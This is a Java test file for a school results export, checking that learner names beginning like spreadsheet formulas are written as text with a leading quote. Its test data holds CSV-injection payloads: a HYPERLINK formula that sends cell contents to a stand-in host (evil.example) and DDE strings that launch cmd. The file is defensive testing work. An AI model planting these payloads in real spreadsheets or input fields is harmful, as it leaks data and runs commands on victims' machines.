package org.digitalcentre.progress;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.digitalcentre.People;
import org.digitalcentre.base.Role;
import org.digitalcentre.base.SignedIn;
import org.digitalcentre.classroom.ClassroomService;
import org.digitalcentre.security.StaffAccountService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.transaction.annotation.Transactional;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The results file is safe to open in Calc or Excel (OWASP "CSV Injection"): a learner's name that starts like a
 * formula (= + - @) reaches the spreadsheet as text, with a leading single quote; ordinary cells are untouched.
 */
@SpringBootTest
@ActiveProfiles("test")
@Transactional
class ResultsExportTest {

    /** Formulas a person could type as a first name; the enrolment accepts them (they hold no control character). */
    private static final List<String> PLANTED = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"Clic\")",
            "=1+1",
            "+33 6 12 34 56 78",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "+HYPERLINK(\"http://evil.example\")");

    @Autowired
    StaffAccountService staffAccounts;
    @Autowired
    ClassroomService classroom;
    @Autowired
    ResultsExport export;

    @Test
    void names_that_start_like_a_formula_are_written_as_text_and_ordinary_cells_are_untouched() {
        People people = new People(staffAccounts, classroom);
        long teacher = people.openStaffAccount("sabine", Role.TEACHER);
        String[] names = new String[PLANTED.size() + 2];
        for (int i = 0; i < PLANTED.size(); i++) {
            names[i] = PLANTED.get(i);
        }
        names[PLANTED.size()] = "Marie-Claire";
        names[PLANTED.size() + 1] = "Aïcha";
        People.Cohort cohort = people.createCohort("Groupe d’été", List.of(teacher), names);

        byte[] file = export.cohortCsv((SignedIn) staffAccounts.loadUserByUsername("sabine"), cohort.id(), "fr",
                key -> key);

        List<List<String>> rows = rowsOf(file);
        List<String> firstCells = rows.stream().map(row -> row.get(0)).toList();
        for (String planted : PLANTED) {
            assertThat(firstCells).as("the name %s, as text", planted).contains("'" + planted + " X.")
                    .doesNotContain(planted + " X.");
        }
        assertThat(rows).as("an ordinary line, untouched").contains(List.of("Marie-Claire X.", "Le navigateur",
                "Naviguer sur Internet", "status.not-started", "0", "0", "2", "0", "0"));
        assertThat(firstCells).contains("Aïcha X.");
        assertThat(rows.get(0)).containsExactly("export.learner", "export.module", "export.topic", "export.status",
                "export.score", "export.answered", "export.exercises", "export.first-try", "export.minutes");
    }

    private static List<List<String>> rowsOf(byte[] file) {
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.DEFAULT.builder().setDelimiter(';').get().parse(new StringReader(text))) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void every_start_that_a_spreadsheet_reads_as_a_formula_is_neutralised() {
        for (String cell : List.of("=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "=", "\t", "\r\n=1")) {
            assertThat(SpreadsheetCell.neutralised(cell)).as("cell %s", cell.replace("\t", "\\t")
                    .replace("\r", "\\r")).isEqualTo("'" + cell);
        }
        for (String cell : List.of("Amina D.", "Marie-Claire", "a=b", "1+1", " =A1", "", "42", "Groupe d’été")) {
            assertThat(SpreadsheetCell.neutralised(cell)).isEqualTo(cell);
        }
        assertThat(SpreadsheetCell.neutralised(null)).isNull();
    }
}
